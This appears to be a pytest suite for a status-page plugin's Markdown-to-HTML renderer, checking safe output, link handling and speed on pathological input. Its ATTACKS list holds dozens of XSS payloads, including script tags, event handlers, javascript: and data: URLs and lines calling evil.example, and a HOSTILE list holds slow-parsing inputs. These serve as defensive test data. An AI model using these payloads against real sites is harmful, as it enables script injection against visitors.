"""What staff write becomes HTML that is safe for every visitor, and no text can stop the page."""

from __future__ import annotations

import re
import time
from concurrent.futures import ThreadPoolExecutor
from typing import Any

import html5lib
import pytest
from hypothesis import given
from hypothesis import strategies as st

from status_plugin.core.notes import markdown
from status_plugin.core.notes.markdown import Resolve, render, words_of

NOTES = {"srv3-memory": ("/status/incidents/srv3-memory/", 'Srv3 & its "memory"')}
OUTSIDE = 'rel="nofollow noopener"'
TAGS = {
    *("p", "ul", "ol", "li", "blockquote", "pre", "hr", "br", "a", "code", "em", "img", "strong"),
    *("h4", "h5", "h6", "table", "thead", "tbody", "tr", "th", "td"),
}
ATTRIBUTES = {"a": {"href", "title", "rel"}, "img": {"src", "alt", "title"}, "ol": {"start"}}


def plain(text: str, resolve: Resolve | None = None) -> str:
    """The words of a text."""
    return words_of(render(text, resolve))


def elements(html: str) -> list[Any]:
    """Every element that a browser makes of the HTML."""
    tree = html5lib.parseFragment(html, treebuilder="etree", namespaceHTMLElements=False)
    return [element for element in tree.iter() if isinstance(element.tag, str)][1:]


def assert_safe(html: str) -> None:
    """Only known tags and attributes, addresses that do nothing, and images from this site."""
    for element in elements(html):
        assert element.tag in TAGS
        assert set(element.attrib) <= ATTRIBUTES.get(element.tag, set())
        if "href" in element.attrib:
            assert element.attrib["href"].lower().startswith(("http://", "https://", "mailto:", "tel:", "/"))
            assert not element.attrib["href"].startswith(("//", "/\\"))
        if "src" in element.attrib:
            assert element.attrib["src"].startswith("/")
            assert not element.attrib["src"].startswith(("//", "/\\"))


@pytest.mark.parametrize(
    ("text", "html"),
    [
        ("One.\n\nTwo *and* **three**.", "<p>One.</p>\n<p>Two <em>and</em> <strong>three</strong>.</p>"),
        ("- a\n- b", "<ul>\n<li>a</li>\n<li>b</li>\n</ul>"),
        ("3. a\n4. b", '<ol start="3">\n<li>a</li>\n<li>b</li>\n</ol>'),
        ("> quoted", "<blockquote>\n<p>quoted</p>\n</blockquote>"),
        ("`df -h`", "<p><code>df -h</code></p>"),
        ("```sh\n<b>\n```", "<pre><code>&lt;b&gt;\n</code></pre>"),
        ("a  \nb", "<p>a<br>\nb</p>"),
        ("# One\n\n## Two\n\n###### Six", "<h4>One</h4>\n<h5>Two</h5>\n<h6>Six</h6>"),
        ("One\n===\n\nTwo\n---", "<h4>One</h4>\n<h5>Two</h5>"),
        ("[a](https://example.com/)", f'<p><a href="https://example.com/" {OUTSIDE}>a</a></p>'),
        (
            "<https://example.com/>",
            f'<p><a href="https://example.com/" {OUTSIDE}>https://example.com/</a></p>',
        ),
        ("[a](/blog/)", '<p><a href="/blog/">a</a></p>'),
        ("[a](mailto:help@example.com)", '<p><a href="mailto:help@example.com">a</a></p>'),
        ("<help@example.com>", '<p><a href="mailto:help@example.com">help@example.com</a></p>'),
        ("[a](tel:+1-555-0100)", '<p><a href="tel:+1-555-0100">a</a></p>'),
        ("![Load](/static/load.png)", '<p><img alt="Load" src="/static/load.png"></p>'),
        ("", ""),
    ],
)
def test_markdown_is_what_it_looks_like(text: str, html: str) -> None:
    """The sober part of Markdown, with headings that nest under those of the page."""
    assert render(text).strip() == html
    assert_safe(render(text))


def test_a_table_is_a_table() -> None:
    """Rows and columns, without the alignment that would need a style."""
    html = render("Server | Load\n--- | ---:\nSrv3 | 12\n")
    assert [element.tag for element in elements(html) if element.tag in ("th", "td")] == [
        "th",
        "th",
        "td",
        "td",
    ]
    assert "style" not in html


@pytest.mark.parametrize(
    "text",
    [
        "<b>bold</b>",
        "load < 5 and > 3",
        "mail to <srv3.example.com>",
        "<div>\n\nblock\n\n</div>",
        "<img src=x>",
        "a <!-- not closed",
        "x <- y",
    ],
)
def test_raw_html_is_shown_as_text(text: str) -> None:
    """No word is lost because it stands between angle brackets."""
    assert "".join(plain(text).split()) == "".join(text.split())
    assert_safe(render(text))


def test_comments_are_not_shown() -> None:
    """What people comment out is not for the public, over several lines too."""
    assert "secret" in render("a `secret` b")
    html = render("One. <!-- secret -->\n\n<!-- secret\n\nUpdate: secret -->\n\nTwo.")
    assert "secret" not in html
    assert plain("One. <!-- x --> Two.") == "One. Two."


def test_a_comment_in_a_code_block_is_code() -> None:
    """Nothing is taken out of a fenced block."""
    assert "&lt;!-- x --&gt;" in render("```\n<!-- x -->\n```")


def test_links_to_notes_are_resolved() -> None:
    """By slug, with own words or the note's title."""
    link = '<p><a href="/status/incidents/srv3-memory/">'
    assert render("[the memory](incident:srv3-memory)", NOTES.get) == f"{link}the memory</a></p>"
    assert render("[*the* memory](incident:srv3-memory)", NOTES.get) == f"{link}<em>the</em> memory</a></p>"
    titled = f'{link}Srv3 &amp; its "memory"</a></p>'
    assert render("[[incident:srv3-memory]]", NOTES.get) == titled
    assert render("[](incident:srv3-memory)", NOTES.get) == titled


def test_addresses_of_the_site_can_be_complete() -> None:
    """Who reads a text elsewhere can follow its links; other addresses stay, also in the next text."""
    text = "[a](/a) ![b](/b.png) [c](https://c.example/) [d](mailto:d@example.com)"
    told = render(text, site="https://www.example.com")
    assert re.findall('(?:href|src)="([^"]+)"', told) == [
        "https://www.example.com/a",
        "https://www.example.com/b.png",
        "https://c.example/",
        "mailto:d@example.com",
    ]
    assert re.findall('(?:href|src)="(/[^"]+)"', render(text)) == ["/a", "/b.png"]


def test_links_to_unknown_notes_are_words() -> None:
    """A draft's or a mistyped slug is no link, and no word is lost."""
    for resolve in (NOTES.get, None):
        assert render("See [the crash](incident:nope).", resolve) == "<p>See the crash.</p>"
        assert render("See [[incident:nope]].", resolve) == "<p>See nope.</p>"


def test_images_from_elsewhere_become_links() -> None:
    """No visitor's address is told to another site just by looking."""
    html = render('![The graph](https://example.com/graph.png "now")')
    assert html == f'<p><a href="https://example.com/graph.png" {OUTSIDE}>The graph</a></p>'
    assert "<img" not in render(
        "[![x](//example.com/x.png)](/a/) ![y](data:image/png;base64,AAAA) ![z](z.png)"
    )
    assert plain("[![x](https://example.com/x.png)](/a/)") == "x"


ATTACKS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
    "<iframe src=javascript:alert(1)>",
    "<a href='javascript:alert(1)'>x</a>",
    "<details open ontoggle=alert(1)>",
    "<form action=//evil.example><input name=x></form>",
    "<style>*{display:none}</style>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<!--<img src=--><img src=x onerror=alert(1)//>",
    "<?php phpinfo() ?>",
    "<![CDATA[<script>alert(1)</script>]]>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java\nscript:alert(1))",
    "[x](java&#10;script:alert(1))",
    "[x](java&Tab;script:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](jav&#x61;script&colon;alert(1))",
    "[x](javascript\\:alert(1))",
    "[x](\\javascript:alert(1))",
    "[x]( javascript:alert(1))",
    "[x](<javascript:alert(1)>)",
    "[x](\x01javascript:alert(1))",
    "[x](vbscript:msgbox(1))",
    "[x](data:text/html,<script>alert(1)</script>)",
    "[x](file:///etc/passwd)",
    "[x](//evil.example/)",
    "[x](/\\evil.example/)",
    "[x](/\\\\evil.example/)",
    "[x](/&#47;evil.example/)",
    "[x](/&sol;evil.example/)",
    "[x](/\t/evil.example/)",
    "[x](http:javascript:alert(1))",
    "[x](https://)",
    '[x](https://e.example/"onmouseover=alert(1))',
    '[x](/a "t" onmouseover=alert(1))',
    "[x](/a '\" onmouseover=alert(1) \"')",
    "[x]: javascript:alert(1)\n\n[x]",
    "[x][y]\n\n[y]: data:text/html,x 'title'",
    "<javascript:alert(1)>",
    '<https://e.example/" onmouseover="alert(1)>',
    "![x](javascript:alert(1))",
    '![x](x" onerror="alert(1))',
    '![" onerror="alert(1)](/x.png)',
    '![x](/x.png "\\" onerror=\\"alert(1)")',
    "![x][i]\n\n[i]: javascript:alert(1)",
    '[a](incident:x" onclick="alert(1))',
    "[[incident:<script>alert(1)</script>]]",
    "`<script>alert(1)</script>`",
    "    <script>alert(1)</script>",
    '```"onmouseover=alert(1)\n<script>alert(1)</script>\n```',
    "``` { .x onclick=alert(1) }\n<script>\n```",
    "<p markdown=1 onclick=alert(1)>x</p>",
    "x{: onclick=alert(1) }",
    "| a |\n|---|\n| <script>alert(1)</script> |",
    "\x02klzzwxh:0000\x03 \x02amp\x03#60;script>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "&amp;lt;script&gt;",
    "# <script>alert(1)</script>",
    "> <script>alert(1)</script>",
    "- <img src=x onerror=alert(1)>",
    "**<script>**alert(1)</script>",
    "[<script>alert(1)</script>](/x)",
    '[![x](/a"onerror=alert(1))](/b"onclick=alert(1))',
    "\u202e<script>\u202d",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
]


@pytest.mark.parametrize("text", ATTACKS)
def test_no_attack_gets_through(text: str) -> None:
    """Whatever is written, a browser finds nothing that runs, loads from elsewhere or leads astray."""
    for whole in (text, f"Before {text} after", f"* {text}\n\n  {text}", text * 20):
        assert_safe(render(whole, NOTES.get))


def test_the_judge_of_attacks_sees_them() -> None:
    """The check itself finds what it is looking for."""
    for html in (
        "<script>x</script>",
        "<p onclick=x>",
        "<a href='javascript:x'>",
        "<a href='//evil.example'>",
        "<img src='https://evil.example/x.png'>",
    ):
        with pytest.raises(AssertionError):
            assert_safe(html)


def test_an_address_from_the_resolver_cannot_break_out() -> None:
    """Not even a title or address with quotes in it."""
    html = render("[[incident:x]]", lambda slug: ('/x"onclick=alert(1)', "<script>alert(1)</script>"))
    assert_safe(html)


@given(st.text() | st.text(alphabet="[]()!*_`<>&#-+=|\\\"' \n\t~:.1a@/"))
def test_any_text_becomes_safe_html(text: str) -> None:
    """And plain words without blank lines."""
    assert_safe(render(text, NOTES.get))
    assert "" not in plain(text).split("\n") or plain(text) == ""


HOSTILE = [
    "[",
    "![",
    "[](",
    '[a](b "',
    "[a][",
    ">",
    "> ",
    "> - ",
    "1. ",
    "- a\n\n  ",
    "=\n",
    "*",
    "**a",
    "_a*b",
]
HOSTILE += [
    "`",
    "``a` ",
    "<",
    "<!--",
    "&",
    "\\",
    "| a ",
    "#",
    "a\n",
    "~~~\n",
    "<http://",
    "(",
    "\n\n> ",
    "\t",
    "-\t",
]
HOSTILE += ["*-*", "_&)_1>", "[[incident:a]]"]


@pytest.mark.parametrize("unit", HOSTILE)
@pytest.mark.parametrize("size", [29_000, 1_000_000])
def test_a_hostile_text_does_not_stop_the_page(unit: str, size: int) -> None:
    """Neither deep nesting nor endless openings take long or end in an exception."""
    text = (unit * size)[:size]
    begun = time.monotonic()
    html = render(text)
    assert time.monotonic() - begun < 5
    assert html or not text.strip()


def test_brackets_before_a_long_text_do_not_stop_the_page() -> None:
    """The converter looks for the end of each."""
    begun = time.monotonic()
    assert "aaaa" in render("[" * 500 + "a" * 29_000)
    assert time.monotonic() - begun < 2


def test_a_text_beyond_reason_is_shown_as_it_stands() -> None:
    """Its words are all there, in paragraphs, escaped."""
    html = render("One <b>.\n\n" + "a " * 20_000 + "\n\nTwo.")
    assert html.startswith("<p>One &lt;b&gt;.</p>\n<p>a a ")
    assert html.endswith("<p>Two.</p>")


def test_after_a_text_that_nests_too_deeply_the_next_one_is_fine() -> None:
    """A converter that stopped in the middle is not used again."""
    assert render("1. " * 5_000).startswith("<p>1. 1. ")
    assert render("1. a").startswith("<ol>")


def test_a_failure_of_the_converter_costs_the_markup_alone(monkeypatch: pytest.MonkeyPatch) -> None:
    """Visitors get the words, whatever goes wrong."""
    monkeypatch.setattr(markdown, "_convert", lambda text, resolve: 1 / 0)
    assert render("*One* & <two>.\n\nThree.") == "<p>*One* &amp; &lt;two&gt;.</p>\n<p>Three.</p>"


def test_one_text_does_not_leak_into_another() -> None:
    """References and stashed code end with their text, and resolvers with their call."""
    assert render("[a][x]\n\n[x]: /x", NOTES.get) == '<p><a href="/x">a</a></p>'
    assert render("[a][x] [[incident:srv3-memory]]") == "<p>[a][x] srv3-memory</p>"


def test_a_resolver_may_render_itself() -> None:
    """A title that is rendered on the way does not disturb the text around it."""

    def resolve(slug: str) -> tuple[str, str]:
        return f"/{slug}/", plain("*nested*")

    assert render("**[[incident:a]]** and [[incident:b]]", resolve) == (
        '<p><strong><a href="/a/">nested</a></strong> and <a href="/b/">nested</a></p>'
    )


def test_threads_do_not_disturb_each_other() -> None:
    """Each has its own converter."""
    texts = [f"**{n}** [a][x]\n\n[x]: /{n}/\n" for n in range(400)]
    expected = [f'<p><strong>{n}</strong> <a href="/{n}/">a</a></p>' for n in range(400)]
    with ThreadPoolExecutor(max_workers=8) as pool:
        assert list(pool.map(render, texts)) == expected


@pytest.mark.parametrize(
    ("text", "words"),
    [
        ("One *two*\nthree.\n\nFour.", "One two three.\nFour."),
        ("- a\n- b\n\n1. c", "a\nb\nc"),
        ("| a | b |\n|---|---|\n| c | d |", "a b\nc d"),
        ("```\nx  y\nz\n```", "x y\nz"),
        ("a  \nb", "a\nb"),
        ("AT&T &copy; <b>", "AT&T © <b>"),
        ('[a](/x "> <p>") b', "a b"),
        ("[a](https://example.com/) <https://example.com/>", "a https://example.com/"),
        ("![Load](/load.png)", ""),
        ("", ""),
    ],
)
def test_plain_text_has_the_words_alone(text: str, words: str) -> None:
    """One line for each paragraph, item or row, and nothing of the markup."""
    assert plain(text) == words


def test_plain_text_names_the_notes_that_are_linked() -> None:
    """A link without words of its own has the title, as on the page."""
    assert plain("See [[incident:srv3-memory]].", NOTES.get) == 'See Srv3 & its "memory".'
